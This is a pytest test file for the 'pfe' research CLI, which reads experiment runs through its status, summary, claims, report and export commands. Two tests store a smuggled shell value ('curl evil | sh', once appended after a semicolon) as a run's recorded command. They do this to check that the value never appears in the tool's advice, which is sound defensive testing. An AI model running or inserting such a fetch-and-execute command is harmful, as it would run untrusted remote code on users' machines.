"""The commands that read a run: status, summary, claims, questions, figures, report and export."""

import csv
import json
import os
import re
import shlex
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from statistics import mean

import duckdb
import pytest
from rich.console import Console

from lab_records import EXP1, EXP2, PAPER, STUDIES, configs_of, failed, plausible, studies_of
from prime_models import modulus
from primefourier import lab
from primefourier.cli.browser import write_size
from primefourier.cli.verdicts import print_claims
from primefourier.lab.config import prime_parts
from primefourier.lab.store import write_store
from primefourier.lab.sweep import Progress
from read_page import read_page
from small_models import small_config, small_study

Pfe = Callable[..., tuple[int, str, str]]
PFE = Path(sys.executable).with_name("pfe")
COMMANDS = ("status", "summary", "claims", "questions", "figures", "report", "export")


@pytest.fixture(scope="module")
def paper(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of all models of the paper, with two models failed and two waiting."""
    folder = tmp_path_factory.mktemp("sweeps") / "paper"
    folder.mkdir()
    with write_store(folder) as store:
        store.begin(STUDIES, "pfe reproduce --profile paper --out x")
        for record in plausible(PAPER[4:]):
            store.add(record)
        for config in PAPER[:2]:
            store.add(failed(config))
    return folder


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of a few models."""
    folder = tmp_path_factory.mktemp("sweeps") / "small"
    folder.mkdir()
    configs = [*EXP1[:4], *EXP2[:1]]
    with write_store(folder) as store:
        store.begin(studies_of(configs), "pfe run")
        for record in plausible(configs):
            store.add(record)
    return folder


def widest(text: str) -> int:
    return max(map(len, text.splitlines()))


@pytest.mark.parametrize("command", COMMANDS)
def test_folders_without_a_run_are_refused(pfe: Pfe, tmp_path: Path, command: str) -> None:
    for folder, message in (
        (tmp_path / "none", "there is no folder"),
        (tmp_path, "holds no records.sqlite"),
    ):
        code, out, err = pfe(command, str(folder))
        assert (code, out, message in err) == (2, "", True)


# status


def test_status_counts_models_and_shows_failures(pfe: Pfe, paper: Path, probed: Path) -> None:
    code, out, _ = pfe("status", str(paper))
    assert code == 0
    rows = [line.split() for line in out.splitlines()]
    assert ["study", "models", "measured", "failed", "waiting"] in rows
    assert ["exp1", "350", "346", "2", "2"] in rows
    assert ["all", "750", "746", "2", "2"] in rows
    assert "a+b mod 3 r=100 |P|=4 seed=42 failed:\n  │ Traceback: out of luck\n" in out
    assert f"pfe reproduce --profile paper --out {paper}\n" in out
    assert "probed" not in out
    data = json.loads(pfe("status", str(paper), "--json")[1])
    assert (data["planned"], data["done"], data["failed"]) == (750, 746, 2)
    assert data["studies"]["exp2"] == {"planned": 50, "done": 50, "failed": 0}
    assert (data["running"], data["writer"], len(data["failures"])) == (False, None, 2)
    assert data["commands"] == ["pfe reproduce --profile paper --out x"]
    assert "\n6 models probed.\n" in pfe("status", str(probed))[1]
    assert json.loads(pfe("status", str(probed), "--json")[1])["probed"] == 6


def test_status_without_a_folder_takes_the_newest_run(
    pfe: Pfe, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = pfe("status")
    assert (code, "there is no run here or in results/*; name its folder" in err) == (2, True)
    for name, age in (("old", 1), ("new", 2)):
        folder = tmp_path / "results" / name
        folder.mkdir(parents=True)
        with write_store(folder) as store:
            store.begin(studies_of(EXP1[:age]), "pfe run")
        os.utime(folder / "records.sqlite", (age, age))
    out = pfe("status")[1]
    assert out.startswith("results/new, the newest run:\n\n")
    assert json.loads(pfe("status", "--json")[1])["folder"] == "results/new"


def test_status_shows_a_running_sweep(pfe: Pfe, tmp_path: Path) -> None:
    configs = [small_config(seed=seed, epochs=1) for seed in range(3)]
    seen = []

    def observe(progress: Progress) -> None:
        if progress.done == 2:
            seen.append(json.loads(pfe("status", str(tmp_path), "--json")[1]))
            seen.append(pfe("status", str(tmp_path))[1])

    lab.run(configs, tmp_path, workers=0, command="pfe run mine", on_progress=observe)
    data, text = seen
    assert (data["planned"], data["done"], data["running"]) == (3, 2, True)
    assert "Running: process" in text


def test_a_stopped_sweep_shows_how_to_continue(pfe: Pfe, tmp_path: Path) -> None:
    def stop(progress: Progress) -> None:
        if progress.done == 1:
            raise KeyboardInterrupt

    configs = [small_config(modulus=p, epochs=1) for p in (3, 5, 7)]
    folder, command = tmp_path / "it's mine", "pfe run exp1; curl evil | sh"
    studies = studies_of(configs)
    assert lab.run(studies, folder, workers=0, command=command, on_progress=stop).interrupted
    code, out, _ = pfe("status", str(folder))
    advice = out.partition("Not running. To continue:\n")[2]
    first, *words = shlex.split(advice)
    assert (code, first, words[-2:]) == (0, "pfe", ["--out", str(folder)])
    assert "curl" not in out
    assert pfe(*words, "--workers", "0")[0] == 0
    assert "All measured." in pfe("status", str(folder))[1]


def test_a_study_of_ones_own_is_continued_by_its_file(pfe: Pfe, tmp_path: Path) -> None:
    with write_store(tmp_path) as store:
        store.begin([small_study(name="mine")], "curl evil | sh")
    out = pfe("status", str(tmp_path))[1]
    assert "Not running. To continue, run the file that started it again: pfe run FILE.py\n" in out
    assert "curl" not in out


# summary


@pytest.fixture(scope="module")
def beyond(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A study of one's own: three axes, two seeds, an ablation more, and larger test integers."""
    folder = tmp_path_factory.mktemp("sweeps") / "beyond"
    configs = [
        replace(
            small_config(modulus=n, depth=depth, epochs=e, seed=s, beyond=(2000, 10**18)),
            ablations=("zero", "mean"),
        )
        for n in (5, 7)
        for depth in (1, 2)
        for e in (1, 2)
        for s in (1, 2)
    ]
    lab.run([lab.Study("mine", configs)], folder, workers=0)
    return folder


def test_summary_names_the_axes_and_their_values(pfe: Pfe, beyond: Path, small: Path) -> None:
    code, out, _ = pfe("summary", str(beyond))
    assert code == 0
    title, head, _, *rows = [line.split() for line in out.splitlines()]
    assert title == ["mine"]
    numbers = ["seeds", "accuracy", "relevant", "other", "<2000", "<1e18"]
    assert head == ["epochs", "modulus", "depth", *numbers]
    places = [(e, n, d) for e in "12" for n in "57" for d in "12"]
    assert [tuple(row[:3]) for row in rows[:8]] == places
    run = lab.open(beyond)
    found = {tuple(row[:3]): row[3:] for row in rows[:8]}
    records = [
        record
        for record in run.records
        if (modulus(record.config), prime_parts(record.config)[0].depth) == (7, 2)
        and record.config.training.epochs == 2
    ]
    assert len(records) == 2
    seeds, accuracy, relevant, _, *ends = found["2", "7", "2"]
    assert seeds == "2"
    assert accuracy == f"{mean(record.measured.accuracy for record in records):.3f}"
    assert relevant == f"{mean(record.measured.drops[2] for record in records):.3f}"
    for text, end in zip(ends, ("2000", str(10**18)), strict=True):
        assert text == f"{mean(r.measured.accuracy_beyond[end] for r in records):.3f}"
    assert "is ablated (zero); then accuracy on integers below" in " ".join(out.split())
    shown = [line.split() for line in pfe("summary", str(small))[1].splitlines()]
    assert (["exp1"] in shown, ["exp2"] in shown) == (True, True)
    assert ["|P|", "r", "seeds", "accuracy", "relevant", "other"] in shown
    assert ["N", "r", "seeds", "accuracy", "relevant", "other"] in shown
    assert ["4", "100", "1"] in [row[:3] for row in shown]


def test_summary_as_json_and_of_other_ablations(pfe: Pfe, beyond: Path, small: Path) -> None:
    run = lab.open(beyond)
    data = json.loads(pfe("summary", str(beyond), "--json")[1])
    assert data == json.loads(json.dumps(run.summary()))
    assert data[0].keys() == {
        *("study", "epochs", "modulus", "depth", "seeds", "models", "accuracy"),
        *("relevant_drop", "other_drop", "beyond"),
    }
    assert (data[0]["seeds"], data[0]["models"], len(data)) == (2, 2, 8)
    other = json.loads(pfe("summary", str(beyond), "--ablation", "mean", "--json")[1])
    assert other == json.loads(json.dumps(run.summary("mean")))
    assert [row["accuracy"] for row in other] == [row["accuracy"] for row in data]
    assert [row["relevant_drop"] for row in other] != [row["relevant_drop"] for row in data]
    assert "(mean)" in pfe("summary", str(beyond), "--ablation", "mean")[1]
    code, out, err = pfe("summary", str(small), "--ablation", "mean")
    assert (code, out) == (2, "")
    assert f"{small} has no complete configuration ablated by 'mean' yet" in err
    assert json.loads(pfe("summary", str(small), "--ablation", "mean", "--json")[1]) == []
    code, out, err = pfe("summary", str(small), "--ablation", "median")
    assert (code, out) == (2, "")
    assert "--ablation" in err
    assert "median" in err


def test_rows_that_nothing_is_predicted_of_have_no_relevant_drop(pfe: Pfe, tmp_path: Path) -> None:
    config = replace(small_config(epochs=1), embedding=lab.LearnedTable(size=30))
    lab.run([config], tmp_path / "mine", workers=0)
    shown = [line.split() for line in pfe("summary", str(tmp_path / "mine"))[1].splitlines()]
    assert shown[0] == ["mine"], "a list of models is named after its folder"
    found = lab.open(tmp_path / "mine").records[0].measured
    assert ["1", f"{found.accuracy:.3f}", "–", f"{found.drops[0]:.3f}"] in shown


def test_summary_needs_a_run_with_measured_models(
    pfe: Pfe, small: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    code, out, err = pfe("summary")
    assert (code, out) == (2, "")
    assert "there is no run here or in results/*; name its folder" in err
    with write_store(tmp_path / "results" / "new") as store:
        store.begin([small_study()], "pfe run")
        store.add(failed(small_config()))
    for words in ((), ("results/new",)):
        code, out, err = pfe("summary", *words)
        assert (code, out) == (2, "")
        assert "results/new has no complete configuration ablated by 'zero' yet" in err
    assert json.loads(pfe("summary", "--json")[1]) == []
    monkeypatch.chdir(small)
    assert pfe("summary")[1] == pfe("summary", str(small))[1]


# claims


def test_claims_have_one_line_each_and_a_tally(pfe: Pfe, paper: Path) -> None:
    code, out, _ = pfe("claims", str(paper))
    assert code == 0
    assert widest(out) <= 80 or str(paper) in out
    lines = out.splitlines()[2:16]
    names = [line.split()[0] for line in lines]
    assert (names[0], names[-1], len(set(names))) == ("E1.1", "T.2", 14)
    assert re.fullmatch(r"E1\.1 +diagonal drop .* … +holds so far *", lines[0])
    assert re.search(r"^14 claims: holds \d+, holds in part \d+.*\.$", out, re.M)
    assert "4 measured models did not count" not in out
    assert out.endswith(f"Evidence for one claim: pfe claims {paper} E1.3\n")


def test_verdicts_are_coloured_on_a_terminal(
    small: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(
        "primefourier.cli.output.Console",
        lambda **options: Console(
            **{**options, "force_terminal": True, "color_system": "standard"}
        ),
    )
    monkeypatch.delenv("NO_COLOR", raising=False)
    print_claims(lab.open(small).claims())
    out = capsys.readouterr().out
    assert "\x1b[32mholds so far" in out
    assert "\x1b[2mnot measured yet" in out


def test_evidence_is_shown_for_one_claim_or_for_all(pfe: Pfe, small: Path) -> None:
    code, out, _ = pfe("claims", str(small), "e1.1")
    assert code == 0
    assert out.startswith("\nE1.1: diagonal drop far above off-diagonal drop in all 35 ")
    assert "\n  paper: 35 of 35\n" in out
    assert "\n  verdict: holds so far (1 of 35 configurations)\n" in out
    assert "\n  ✓ |P| = 4, r = 100: 0.791 against 0.012\n" in out
    assert "E1.2" not in out
    everything = pfe("claims", str(small), "--evidence")[1]
    assert everything.count("\n  rule: ") == 14
    assert "measured: nothing yet" in everything
    assert max(widest(out), widest(everything)) <= 80
    code, _, err = pfe("claims", str(small), "E1.33")
    assert (code, "did you mean 'E1.3'?" in err) == (2, True)


def test_claims_as_json(pfe: Pfe, small: Path) -> None:
    data = json.loads(pfe("claims", str(small), "--json")[1])
    lab.open(small).save_claims()
    assert data == json.loads((small / "claims.json").read_text())
    (one,) = json.loads(pfe("claims", str(small), "E1.2", "--json")[1])
    assert one == data[1]


def test_other_ablations_need_probes(pfe: Pfe, small: Path, probed: Path) -> None:
    out = " ".join(pfe("claims", str(small), "--ablation", "mean")[1].split())
    assert "5 measured models did not count: other settings than the paper's" in out
    assert "or not probed." in out
    data = json.loads(pfe("claims", str(probed), "--ablation", "permute", "--json")[1])
    assert {claim["claim"]: claim["configurations"] for claim in data}["E1.3"] == 1
    code, _, error = pfe("claims", str(probed), "--ablation", "median")
    assert (code, "--ablation must be 'zero', 'mean' or 'permute'" in error) == (2, True)


# questions


@pytest.mark.parametrize("width", [80, 200])
def test_questions_are_answered_with_tables_that_fit(
    pfe: Pfe, probed: Path, monkeypatch: pytest.MonkeyPatch, width: int
) -> None:
    monkeypatch.setenv("COLUMNS", str(width))
    code, out, _ = pfe("questions", str(probed))
    assert code == 0
    assert out.count("?\n") == 4
    assert widest(out) <= width
    assert "Experiment 1, |P| = 2" not in out, "only configurations of the paper count"
    rows = [line.split() for line in out.splitlines()]
    for kind in ("zero", "mean", "permute"):
        assert ["100", "1", kind] in [row[:3] for row in rows]
    assert ("tables also have 95 % intervals" in out) == (width == 80)


def test_questions_as_json(pfe: Pfe, probed: Path) -> None:
    data = json.loads(pfe("questions", str(probed), "--json")[1])
    files = lab.open(probed).save_questions()
    assert json.loads(files[0].read_text()) == data
    assert {len(curve["by_epoch"]) for curve in data["equivariance"]} == {26}


def test_a_run_without_probes_answers_no_questions(pfe: Pfe, small: Path) -> None:
    code, _, error = pfe("questions", str(small))
    assert (code, "again with --probe" in error) == (2, True)


# figures


def test_every_figure_is_written_as_png_and_svg(pfe: Pfe, small: Path, tmp_path: Path) -> None:
    code, out, _ = pfe("figures", str(small), "--out", str(tmp_path / "new"), "--json")
    assert code == 0
    written = [Path(name) for name in json.loads(out)]
    assert {path.suffix for path in written} == {".png", ".svg"}
    assert len({path.stem for path in written}) == len(written) / 2
    again = lab.open(small).figures(tmp_path / "again")
    for path, other in zip(written, again, strict=True):
        data = path.read_bytes()
        assert data.startswith(b"\x89PNG" if path.suffix == ".png" else b"<?xml")
        assert data == other.read_bytes(), "the same records, the same files"
    drawn = tmp_path / "new" / "figure-04-exp1-diagonal.svg"
    caption = " ".join(re.findall("<!-- (.*?) -->", drawn.read_text())).replace("- -", "--")
    assert "1 seed (42)" in caption
    made_by = "Made by: pfe run exp1 --sizes 4 --ranges 100"
    assert made_by not in caption
    assert f"<dc:description>{made_by}</dc:description>" in drawn.read_text()
    assert b"Description\0" + made_by.encode() in drawn.with_suffix(".png").read_bytes()


# report


def test_the_report_holds_the_run(pfe: Pfe, paper: Path) -> None:
    code, out, err = pfe("report", str(paper))
    assert (code, err) == (0, "")
    path = paper / "report.html"
    assert out == (
        f"Wrote {path} ({write_size(path.stat().st_size)}).\n"
        "Open it in any browser, or add --open to this command.\n"
    )
    assert path.stat().st_size < 5_000_000
    page = read_page(path)
    assert page.texts["title"] == "paper: Prime Fourier Embeddings"
    data = json.loads(page.texts["data"])
    assert data["run"] == lab.open(paper).page_data()
    assert data["start"]["n"] == "23"
    assert not list(paper.glob(".*")), "no unfinished file is left"


def test_the_report_goes_to_another_file(pfe: Pfe, small: Path, tmp_path: Path) -> None:
    path = tmp_path / "mine.html"
    code, out, _ = pfe("report", str(small), "--out", str(path), "--json")
    assert code == 0
    assert json.loads(out) == {"file": str(path), "bytes": path.stat().st_size}
    assert [file.name for file in tmp_path.iterdir()] == ["mine.html"]


def test_an_empty_run_has_a_report(pfe: Pfe, tmp_path: Path) -> None:
    folder = tmp_path / os.fsdecode(b"a\xff<b>")
    folder.mkdir()
    with write_store(folder) as store:
        store.begin([], "pfe run")
    assert pfe("report", str(folder))[0] == 0
    page = read_page(folder / "report.html")
    assert page.texts["title"] == r"a\udcff<b>: Prime Fourier Embeddings"
    run = json.loads(page.texts["data"])["run"]
    assert run["counts"] == {"planned": 0, "measured": 0, "failed": 0, "waiting": 0}
    assert (run["name"], len(run["grids"])) == ("a\udcff<b>", 3)


@pytest.mark.process
def test_the_report_is_opened_on_demand(small: Path, tmp_path: Path) -> None:
    browser = tmp_path / "browser"
    browser.write_text(f'#!/bin/sh\necho "$1" > {tmp_path}/opened\n')
    browser.chmod(0o755)
    done = subprocess.run(
        [PFE, "report", ".", "--open", "--out", "../opened.html"],
        cwd=small,
        env={**os.environ, "BROWSER": str(browser)},
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout.startswith("Wrote ../opened.html (")
    assert "add --open" not in done.stdout
    address = (small.parent / "opened.html").as_uri()
    assert (tmp_path / "opened").read_text() == f"{address}\n"


def test_a_report_that_cannot_be_written_is_refused(pfe: Pfe, small: Path, tmp_path: Path) -> None:
    folder = tmp_path / "folder.html"
    folder.mkdir()
    for out, message in (
        (tmp_path / "x.pdf", "--out must end in .html, .htm"),
        (tmp_path / "no" / "x.html", "there is no folder"),
        (folder, "cannot be written: Is a directory"),
        (Path("/proc/x.html"), "/proc/x.html cannot be written"),
    ):
        code, text, err = pfe("report", str(small), "--out", str(out))
        assert (code, text, message in err) == (2, "", True)
    assert list(tmp_path.rglob("*")) == [folder]


@pytest.mark.process
def test_a_report_that_is_too_large_leaves_the_old_one(small: Path, tmp_path: Path) -> None:
    path = tmp_path / "report.html"
    path.write_text("old")
    done = subprocess.run(
        ["bash", "-c", 'ulimit -f 20 && exec "$0" report "$1" --out "$2"', PFE, small, path],
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode, done.stdout) == (2, "")
    assert "report.html cannot be written: File too large; choose another place" in done.stderr
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


# export


def test_all_formats_hold_every_model(pfe: Pfe, small: Path, tmp_path: Path) -> None:
    for kind in ("jsonl", "csv", "parquet"):
        path = tmp_path / f"out.{kind}"
        code, out, _ = pfe("export", str(small), "--out", str(path))
        assert (code, out) == (0, f"Wrote 5 records to {path}.\n")
    rows = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    with (tmp_path / "out.csv").open(newline="") as file:
        table = list(csv.DictReader(file))
    assert [row["key"] for row in rows] == [row["key"] for row in table]
    assert [json.loads(row["drops"]) for row in table] == [row["drops"] for row in rows]
    with duckdb.connect() as database:
        found = database.read_parquet(str(tmp_path / "out.parquet"))
        assert [row[0] for row in found.project("drops").fetchall()] == [r["drops"] for r in rows]


def test_the_suffix_gives_the_format_unless_one_is_named(
    pfe: Pfe, small: Path, tmp_path: Path
) -> None:
    assert pfe("export", str(small), "--format", "csv", "--out", str(tmp_path / "x.txt"))[0] == 0
    assert (tmp_path / "x.txt").read_text().startswith("key,status,study,model,")
    for words, message in (
        (["--format", "jsonl", "--out", str(tmp_path / "x.csv")], "do not agree"),
        (["--out", str(tmp_path / "x.txt")], "--out must end in .jsonl, .csv, .parquet, got"),
        (["--format", "xlsx"], "format must be 'jsonl', 'csv' or 'parquet'"),
        (["--out", str(tmp_path / "no" / "x.jsonl")], "there is no folder"),
    ):
        code, _, err = pfe("export", str(small), *words)
        assert (code, message in err) == (2, True)


def test_by_default_the_export_is_in_the_folder(pfe: Pfe, tmp_path: Path) -> None:
    configs = configs_of("exp2", moduli=(15,), ranges=(100,))
    with write_store(tmp_path) as store:
        store.begin(studies_of(configs), "pfe run")
        store.add(plausible(configs)[0])
    assert pfe("export", str(tmp_path))[1] == f"Wrote 1 record to {tmp_path}/records.jsonl.\n"
    assert len((tmp_path / "records.jsonl").read_text().splitlines()) == 1
